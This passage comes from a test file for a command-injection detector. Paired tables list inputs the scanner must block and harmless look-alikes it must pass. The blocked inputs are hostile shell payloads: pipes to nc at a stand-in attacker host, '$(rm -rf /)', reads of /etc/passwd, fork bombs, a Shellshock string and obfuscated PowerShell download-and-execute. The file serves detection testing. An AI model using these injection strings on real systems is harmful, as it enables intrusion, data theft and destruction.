    'Options like `timeout`, `throwOnError`, and more', '`mkdir`: ensure the directory exists'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['x `id` -a', 'x `id`:x', 'x `id`, `whoami`', 'a `id`.', 'x `id`;', 'x `id`'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: recon-only commands and table cells', () => {
  // whoami, uname, ifconfig ... name no field or option: alone in a span they substitute even when prose follows;
  // a strong word that is also an identifier (`id`, `timeout`) in a table cell followed by another cell is a row
  it.each(['| `id` | string | the user id |', '| `timeout` | `number` | `5000` | ms |', 'a | `id` | b', 'the `id` field', 'run `hostname` to see it'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['text `whoami` more text', 'hello `whoami`, there', 'x `ifconfig` y', '| `whoami` | x |', '| `id` |', '| `id` |;id', 'x | `id` |', '| `id` | ;'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a shell or language name alone in a table cell', () => {
  it.each(['| bash       | shj-lang-bash |', '| node | Minimal polyfills', '| fast-check | node | ECMAScript version |', 'Python | Ruby | Go', '| sleep | 5 |'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['x | bash', 'x |bash |', '| id |', 'curl x | sh | tee y', 'x | python -c y |'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: the language word of a Markdown code fence', () => {
  // ```bash at the start of the value or a line, with the line ending after the word, opens a fenced block; the
  // lines inside are still read as command lines
  it.each(['```powershell', '```bash', '```python\nimport os\nprint(x)\n```', 'Example:\n```sh\n```'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['```\nid\n```', '```\nid', 'x\n```\nwhoami', '```bash\nls -la\n```', '```bash -c id', 'x ```id``` y', '```id```'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a runtime documented in a span still runs code given after other options', () => {
  // the runtime's own options come before the script or -m module; -c/-e among them (after -rsocket, -MIO, -W x, -u) run code
  it.each(['x `python -m venv .venv` y', 'x `node -r ts-node/register app.js` y', 'x `python x.py -c 1` y', 'x `node app.js --eval` y',
    'x `python -m pip install -e .` y', 'x `node --inspect app.js` y', 'x `node /a/b.js -e` y'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(["`ruby -rsocket -e 'x'`", "`perl -MIO -e 'x'`", "x `python -W ignore -c 'x'` y", 'x `node -r x -e 1` y', 'x `python3 -u -c 1` y',
    'x `python -c 1` y', 'x `node --eval 1` y'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: still more prose around a strong command alone in a span', () => {
  // ")" then prose, " (" then prose, "`a`/`b`" alternatives, a table cell's last words before " |", and a strong word
  // after punctuation standing apart ("(`cmd.exe` or") read like prose; at the end, glued, or before a command they substitute
  it.each(['x `id`) y', 'a `id`/`include` b', 'the list `at` (the source)', 'Alias for `basename` |', 'x (`id`) y',
    'Note that this is used in a terminal (`cmd.exe` or'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['(`id`)', '${`id`}', "'.print(`id`).'", 'x `id` | nc a 1', 'x `id`/etc', 'x (`id`)', 'x `id`)', 'a `id`/b'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a mail verb that is also English at the start of a wrapped prose line', () => {
  // DATA, LIST, TOP, SELECT, a1 COPY ... start protocol lines with an argument or nothing after them; wrapped prose
  // goes on with punctuation or a function word ("list of contributors.", "a copy of this software", "top-level")
  it.each(['x\nlist of contributors.', 'x\na copy of this software', 'x\ntop-level middleware', 'Hello\ndata is here', 'x\ndata, this method',
    'x\nand close the handle', 'x\nsanity check (since x)', 'x\nmail from the server', 'x\nwill delete it on exit'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(['x\r\nDATA', 'x\nDATA\n', 'x\na1 close', 'a\r\nMAIL FROM:<a@b.test>', 'a\nRCPT TO:<a@b.test>', 'x\na1 SELECT INBOX', 'x\nA1 list "INBOX/" "*"',
    'x\na002 copy 2:4 MEETING', 'x\r\nHELP Postmaster', 'x\r\nTOP 1 2', 'x\r\nUSER admin\r\nPASS secret', 'p="\r\nDATA"', 'x\r\nQUIT',
    'x\r\nLIST 1', 'x\r\nUSER admin', '\r\nAUTH PLAIN dGVzdA==', 'x\r\na1 LOGIN admin pw', 'x\r\nb2 FETCH 1 BODY[]'])('%s is still flagged', (input) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain('cmdi.mail-command');
    expectSameWhenSplit(d, [input], 'body');
  });
  // Lines of a ticket or a comment (a textarea sends CRLF): an IMAP verb that is an English word counts only after an
  // IMAP tag, as the rule says; with no tag, an SMTP/POP verb's word argument must end the line (USER admin\r\n)
  it.each(['Go to settings and\r\nselect Name from the dropdown', 'Steps:\r\n1. open the app\r\nsearch results are empty',
    'Hi,\r\nlogin fails on mobile', 'Then\r\ndelete everything older', 'Hi,\r\nhelp needed with my order', 'Hi,\r\nuser cannot log in',
    'notes:\nfetch data every hour', 'ok\nstore credits expired', 'x\nlist all the items please'])('%s stays clean (session 16)', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a word opened by a "[" that nothing closes within it is literal', () => {
  // [npm registry](url) at the start of a line is a Markdown link; in the shell "[npm" is a literal word (a bracket
  // expression needs its "]"), while [c]at is cat
  it.each(['x\n[npm registry](https://x.test/)', 'x\n[node stability index](https://x.test)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each([';[c]at /etc/hosts', ';[w]hoami', 'x\n[c]at /tmp/x', ';[ -f /tmp/x ] && id'])('%s is still flagged', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: round 6 shapes (each with its nearest ordinary look-alike)', () => {
  // PowerShell's backtick escapes a letter: i`e`x is iex (a shell would run a command named "e", which none is);
  // a one-letter word after x` is joined only when a backtick is glued right after it, so x`p\ing still splits
  it.each([['; i`e`x (New-Object Net.WebClient)', 'cmdi.obfuscated-command'], [';I`n`v`o`k`e-Expression whoami', 'cmdi.obfuscated-command'], ['I`E`X', 'cmdi.obfuscated-command'], ['w`h`oami', 'cmdi.obfuscated-command'],
    ['x`p\\ing -c 1 x', 'cmdi.command-substitution'],
    // a command word given a quoted argument inside $( ): the rot13 and printf stagers of the bypass lists
    [";$(tr 'a-z' 'n-za-m' <<< 'jubnzv')", 'cmdi.command-substitution'],
    // a shell right after an opening quote hands a command line to the tool before it (zip -TT, rsync -e)
    ["-TT 'sh -c id' -T x.zip", 'cmdi.shell-path'], ['-e "bash -c id" x y:/tmp', 'cmdi.shell-path'],
    // a word between two '=' starts a value too: tar's --checkpoint-action=exec=CMD
    ['--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh', 'cmdi.command-with-args'], ['q=find=cat /etc/x', 'cmdi.command-with-args'],
    // %TEMP% %APPDATA% %USERPROFILE% count after a separator; %COMSPEC% %WINDIR% anywhere
    ['& %TEMP%\\p.exe', 'cmdi.windows-batch'], ['x;%APPDATA%\\a.bat', 'cmdi.windows-batch'], ['x %windir%', 'cmdi.windows-batch'], ['%COMSPEC%', 'cmdi.windows-batch']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['use `e` or `x`', 'a`b`c', "Sort by 'name', then 'date'", "it's 'sh' or 'bash'", "the 'shell' option", 'filter=type=pdf', 'q=find=cat food',
    'version==1.2', 'a=b=c', 'Our set-up uses %APPDATA%\\MyApp\\config.ini', 'Saved to %USERPROFILE%\\Downloads', 'clear the %TEMP% folder',
    '%TEMP%\\logs'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: a strong word opening the value, then another command word, a span or "<"', () => {
  // A strong command that runs no other command (at, cat, echo) hands over to the strong word after it, judged like
  // one at the start: "at node.js:901:3" (a stack trace) names a file; echo whoami, cat ls -la still fire. A span
  // after it is judged by itself ("Invoke `listener` on"), and '<' by what follows it ("at <...omitted..>")
  it.each([['echo whoami', 'cmdi.command-with-args'], ['cat ls -la', 'cmdi.command-with-args'], ['bash whoami', 'cmdi.command-with-args'],
    ['nohup whoami', 'cmdi.command-with-args'], ['echo `id`', 'cmdi.command-substitution'], ['echo `date`', 'cmdi.command-substitution'],
    ['cat < x.txt', 'cmdi.command-with-args'], ['wc <x.txt', 'cmdi.command-with-args'], ['cat <$HOME/x', 'cmdi.command-with-args'],
    ['cat < /etc/passwd', 'cmdi.redirection']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['at node.js:901:3', '    at Object.<anonymous> (node.js:12:3)', 'at <...omitted..>', 'Invoke `listener` on the first event',
    "at `require('x').register`). You can"])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: a runtime or a hyphenated name opening the value before a number', () => {
  // a number after a shell or language runtime is its version ("Node 8 and above", "PHP 8.2"), after a hyphenated
  // name a measure ("nano-equal 0.417ms"); after a separator, and for other commands (ping 5, nc 10.0.0.1), it still counts
  it.each([['; python 3', 'cmdi.chained-command'], ['ping 5', 'cmdi.command-with-args'], ['nc 10.0.0.1 4444', 'cmdi.command-with-args'],
    ['bash -i', 'cmdi.command-with-args'], ['ssh-keygen -t rsa', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Node 8 and above:', 'PHP 8.2', 'Python 3.12 is out', 'nano-equal         0.417ms', 'bash 5'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: code prose around spans, globs and function bodies', () => {
  // a name's "() {" waits for the body's first event: a JavaScript statement word or '}' is a method; the
  // Shellshock "() {" with no name, a command, ':' or the function's own name (a fork bomb) is a shell definition.
  // A span glued to '-' and a word is a hyphenated word ("`printf`-like"); /**bold**/ between slashes is Markdown.
  it.each([['f() { id; }', 'cmdi.function-definition'], ['f(){ f|f& };f', 'cmdi.function-definition'], ['foo(){ :|:& };:', 'cmdi.function-definition'],
    ['() { :;}; echo vulnerable', 'cmdi.function-definition'], ['x`printf`-like', 'cmdi.command-substitution'], ['Look at `id`).', 'cmdi.command-substitution'],
    ['/e*c/pas*wd', 'cmdi.glob-path'], ['cat /e**c/passwd', 'cmdi.glob-path']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['constructor() { this.bar(); }', "bar() { throw new Error('x'); }", 'x() { }', 'A `printf`-like format string',
    '- Long#**modulo**/**mod**/**rem**(divisor)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: a shell named with .exe', () => {
  // cmd.exe, powershell.exe in command position (also glued to a separator, where a bare shell name "Java; Python"
  // is a list of languages) run a shell; named in prose they count only with a switch after them (cmd.exe /c)
  it.each([[';cmd.exe', 'cmdi.chained-command'], ['x|cmd.exe', 'cmdi.chained-command'], ['a;powershell.exe', 'cmdi.chained-command'],
    ['& cmd.exe', 'cmdi.shell-path'], ['cmd.exe', 'cmdi.shell-path'], ['x cmd.exe /c whoami', 'cmdi.shell-path'],
    ['powershell.exe -nop', 'cmdi.shell-path']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['which can cause issues when used in cmd.exe', 'run it in powershell.exe please', 'Java; Python'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: type unions and brackets after a pipe', () => {
  // true/false after a single '|' is a type union or a list of values (MemoizeMap | false;), and a ']' that no '['
  // opened leaves a word literal (| Date]); the command after "|| true", "; true" (no-ops since session 22, cf26b), "a | date",
  // [c]at, ca[t] still count ("a | Date" alone: see session 21)
  it.each([['x || true; id', 'cmdi.chained-command'], ['x; true && id', 'cmdi.chained-command'], ['a | date', 'cmdi.chained-command'],
    ['ca[t] /etc/x', 'cmdi.obfuscated-command'], [';c[a]t /tmp/x', 'cmdi.chained-command'], [';[w]hoami', 'cmdi.chained-command'],
    [';./run.sh', 'cmdi.chained-command'], ['x `whoami` y', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['memoize?: MemoizeMap | false;', '(plugins: T | T[] | null | undefined | false) => T[]', '| [value: string | number | Date]',
    '-n <0|1|false>',
    // a word glued to a '.' names no command, also when the closing backtick hands it to the shell-word joiner
    'within the `.env` file using', 'a `.cat` b'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: a shell given a script by name', () => {
  // sh x.sh, powershell x.ps1 opening a value (or an option's value: --checkpoint-action=exec=sh shell.sh) run a
  // script; a runtime given a program file (node app.js, python setup.py) is how READMEs document running code
  it.each([['--checkpoint-action=exec=sh shell.sh', 'cmdi.command-with-args'], ['bash install.sh', 'cmdi.command-with-args'],
    ['powershell run.ps1', 'cmdi.command-with-args'],
    // ${0} is the shell itself, like $0
    ['x;${0} -c id', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['node app.js', 'python setup.py install', 'sh is short for shell, right?', 'Total: ${0} items'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: at(1) takes a time', () => {
  // a number, an option or a time word (now, midnight ...) after at is its schedule; another word after it is a
  // stack frame ("\n\tat Foo.bar(Foo.java:5)") or a sentence ("| At least one operand")
  it.each([['x;at now', 'cmdi.chained-command'], ['x|at midnight', 'cmdi.chained-command'], ['x; at 10:00 /every:M cmd', 'cmdi.chained-command'],
    ['x;at -f /tmp/x now', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Exception in thread "main" java.lang.NullPointerException\n\tat Foo.bar(Foo.java:5)', '| `or(...exprs)` | At least one operand must match. |',
    'Error\n    at Object.<anonymous> (/app/index.js:10:5)\n    at Module._compile (node:internal/modules/cjs/loader:1105:14)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: exec( and start( given a command line', () => {
  // exec( and start( are also a regex's, a database's or a server's methods: only a string opening with a command counts
  it.each([["exec('id')", 'cmdi.exec-call'], ["Kernel.exec('id')", 'cmdi.exec-call'], ['Process.Start("cmd.exe", "/c whoami")', 'cmdi.exec-call'],
    ["child.exec('cat /etc/passwd')", 'cmdi.exec-call']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'body');
  });
  it.each(["re.exec('abc')", "db.exec('CREATE TABLE x (id int)')", "/\\d+/.exec('a1')", "app.start('server')", 'exec("date")'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe('cmdi: a shell handed over by an option opening the value or after ext::', () => {
  it.each([['-e sh', 'cmdi.shell-path'], ['-c bash', 'cmdi.shell-path'], ['-c protocol.ext.allow=always ext::sh -c id', 'cmdi.shell-path'],
    ['ext::sh -c touch% /tmp/pwned', 'cmdi.shell-path']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['-e shell', '-5 sh', 'ext::shell'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi: a command opening the value, then " #"', () => {
  // a '#' standing apart comments out the rest of the line (ls #, id # x); a word or number glued to it numbers
  // something (Apt #4B, cat #1: the apartment, the cat's name in a list)
  it.each([['ls #', 'cmdi.command-with-args'], ['id # x', 'cmdi.command-with-args'], ['ls -la #', 'cmdi.command-with-args'],
    [';ls #4', 'cmdi.chained-command'], ['x|cat #1', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Apt #4B', 'cat #1', 'Make #3 in the list', 'ls #x'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 7: the PowerShell alias gci (Get-ChildItem) is a command word', () => {
  it.each([['& gci env:', 'cmdi.chained-command'], ['x; gci -recurse', 'cmdi.chained-command'], ['gci c:\\users', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['GCI Communications', 'our gci alias list', 'gci'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 7: Ruby's %x( %x{ and Perl's qx( qx{ run a command line, as backticks do", () => {
  it.each([['%x(id)', 'cmdi.command-substitution'], ['%x{cat /srv/x}', 'cmdi.command-substitution'], ['qx{uname -a}', 'cmdi.command-substitution'],
    ['a = qx(whoami);', 'cmdi.command-substitution'], ['%x[id]', 'cmdi.command-substitution'], ['%x<whoami>', 'cmdi.command-substitution'],
    ['%x[ls -la]', 'cmdi.command-substitution'], ['qx{id} + 1', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['printf("%x(%d)", a, b)', '%x(foo)', 'qx', 'the qx{ thing', 'aqx(id)', 'x(id)', '/api/qx/id', '{id}', 'a[id]', '<id>', '%x[foo]'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 7: Groovy's String.execute() runs the string as a command line", () => {
  it.each([['"id".execute().text', 'cmdi.exec-call'], ["def p = 'uname -a'.execute()", 'cmdi.exec-call'], ['x="w".execute()', 'cmdi.exec-call'],
    ["println 'ls /'.execute().text", 'cmdi.exec-call']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'body' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'body');
  });
  // a method called execute on an object or a list element, or a quoted word followed by prose
  it.each(['stmt.execute()', 'cursor.execute("SELECT 1")', 'cmds[0].execute()', '"x".executed()', '"x". execute()', '"id".execute', "say 'hi'. Execute the plan",
    "x = '.execute()'", '".execute(" is a method'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'body');
  });
});

describe("cmdi round 7: PowerShell's prompt (PS C:\\path>) is no ps command given a drive", () => {
  it.each([['dir c:', 'cmdi.command-with-args'], [';ps -ef', 'cmdi.chained-command'], ['ps -aux', 'cmdi.command-with-args'], ['x&dir d:\\work', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['PS C:\\Users\\ana> Get-ChildItem', 'PS D:\\src> npm install', 'ps c:', 'PS /home/ana> ls', 'ps /'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 7: a weak word between '& ' and ' |' is a title or a table cell", () => {
  it.each([['& date | nc attacker.test 80', 'cmdi.chained-command'], ['x & sleep 5 |', 'cmdi.chained-command'], ['x & date -u |', 'cmdi.chained-command'],
    ['x; date |', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Set time & date | Language | Region', 'Sales & find | Support', 'Q&A | Help'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 7: a Makefile variable named like a tool that alone does nothing ($(CC) $(MAKE) $(RM))', () => {
  it.each([['$(id)', 'cmdi.command-substitution'], ['$(cat)', 'cmdi.command-substitution'], ['$(rm -rf /)', 'cmdi.command-substitution'],
    ['$(sh)', 'cmdi.command-substitution'], ['$(c""c)', 'cmdi.command-substitution'], ['$( make)', 'cmdi.command-substitution']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['$(CC) -o app main.c $(CFLAGS)', '$(MAKE) -C sub all', '$(RM) -f *.o', 'x = $(SED) -e s/a/b/'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 7: a strong word alone between pipes, then a plain word, is a table cell (Name | ID | Email)', () => {
  it.each([['| id |', 'cmdi.chained-command'], ['x | id | whoami', 'cmdi.chained-command'], ['x | id | cat /srv/x', 'cmdi.chained-command'],
    ['|| id ||', 'cmdi.chained-command'], ['a|id|b', 'cmdi.chained-command'], ['x | id |;', 'cmdi.chained-command'], ['x | id', 'cmdi.chained-command'],
    ['printf x | rev | sh', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Name | ID | Email | Phone', '| id | 42 |', 'User | id | string'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 8: a command word followed by an English contraction leaves a quote the shell never closes (; who's driving?)", () => {
  it.each([["; who'", 'cmdi.chained-command'], [";who''", 'cmdi.chained-command'], ["; who's'", 'cmdi.chained-command'], ["|id'", 'cmdi.chained-command'],
    ["';id;'", 'cmdi.chained-command'], ["x;wh'o'ami", 'cmdi.chained-command'], ["; time's' sleep 5'", 'cmdi.chained-command'],
    ["; who'x", 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(["haha ok; who's driving?", "ok; time's up", "lol; cat's out of the bag", "sure | who'd know", ";who's"])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 8: net needs an argument; a command that needs one ends the value after a pipe (Net; toen, Istanbul | TR)', () => {
  it.each([['& net user', 'cmdi.chained-command'], ['net;whoami', 'cmdi.chained-command'], ['| NET USER', 'cmdi.chained-command'],
    ['| tr a-z A-Z < /etc/passwd', 'cmdi.redirection'], ['| sleep 5', 'cmdi.chained-command'], ['| tr -d x', 'cmdi.chained-command'],
    ['; sleep 5', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Net; toen kwam hij binnen', 'Istanbul | TR', 'Istanbul | tr', 'Ankara | TR | 06', 'x | sleep'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 8: R's pipe %>% after a command word is code, a %VAR% still counts", () => {
  it.each([['df %HOMEDRIVE%', 'cmdi.command-with-args'], ['dir %TEMP%', 'cmdi.command-with-args'], ['& type %WINDIR%\\win.ini', 'cmdi.chained-command'],
    ['| echo %USERNAME%', 'cmdi.chained-command'], ['df %', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['df %>% filter(x > 1) %>% select(id, name)', 'x %>% head', 'df %<>% mutate(y = 1)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 8: a strong word opening the value piped into a plain word heads a CSV file or a table (id|name|email)', () => {
  it.each([['id|nc attacker.test 4444', 'cmdi.command-with-args'], ['id|', 'cmdi.command-with-args'], ['id||x', 'cmdi.command-with-args'],
    ['whoami|base64', 'cmdi.command-with-args'], ['id | sh', 'cmdi.command-with-args'], ['echo | gcc7.4', 'cmdi.command-with-args'],
    ['id|tee /tmp/x', 'cmdi.command-with-args'], ['id|;', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['id|name|email', 'ID | Name | Created', 'https://example.com/api?fields=id|name|email', 'cat|dog|bird'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe('cmdi round 8: su given a user name runs nothing without a terminal (; su familia), given an option it counts', () => {
  it.each([['; su -c id root', 'cmdi.chained-command'], ["| su root -c 'id'", 'cmdi.chained-command'], [';su - root', 'cmdi.chained-command'],
    ['; su root', 'cmdi.chained-command'], ['; su root; id', 'cmdi.chained-command'], ['; su', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['Vive en su casa; su familia también', 'Gracias; su pedido está listo', 'Merci; su respuesta fue rápida'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
});

describe("cmdi round 8: after a strong table cell (ID | ...), a weak word is judged in its own command position", () => {
  it.each([['x | id | date', 'cmdi.chained-command'], ['id | date', 'cmdi.chained-command'], ['x | id | sort', 'cmdi.chained-command'],
    ['x | id | sleep 5', 'cmdi.chained-command'], ['id | time whoami', 'cmdi.chained-command'], ['x | id | date | nc attacker.test 80', 'cmdi.chained-command'],
